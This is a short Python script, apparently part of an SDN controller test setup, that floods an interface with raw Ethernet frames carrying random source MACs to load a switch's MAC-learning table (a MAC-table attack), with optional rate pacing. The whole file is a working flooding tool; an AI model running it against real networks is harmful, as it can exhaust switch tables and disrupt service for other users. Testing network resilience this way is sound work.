"""Send frames from random source MACs on an interface, optionally paced (MAC-table attack).

Each frame has a fresh random locally administered unicast source MAC, so every frame
would cost the switch app a learning packet-in and, unbounded, a table entry and flows.
Prints the count sent.
"""

from __future__ import annotations

import argparse
import os
import socket
import time


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst", default="ff:ff:ff:ff:ff:ff")
    ap.add_argument("--count", type=int, default=5000)
    ap.add_argument("--rate", type=float, default=0, help="frames per second (0: as fast as possible)")
    a = ap.parse_args()
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    dst = bytes(int(x, 16) for x in a.dst.split(":"))
    t0 = time.monotonic()
    for n in range(a.count):
        src = bytes([0x02]) + os.urandom(5)
        s.send(dst + src + b"\x88\xb5" + b"\0" * 46)  # local experimental ethertype
        if a.rate:
            ahead = t0 + (n + 1) / a.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    print(a.count)


if __name__ == "__main__":
    main()
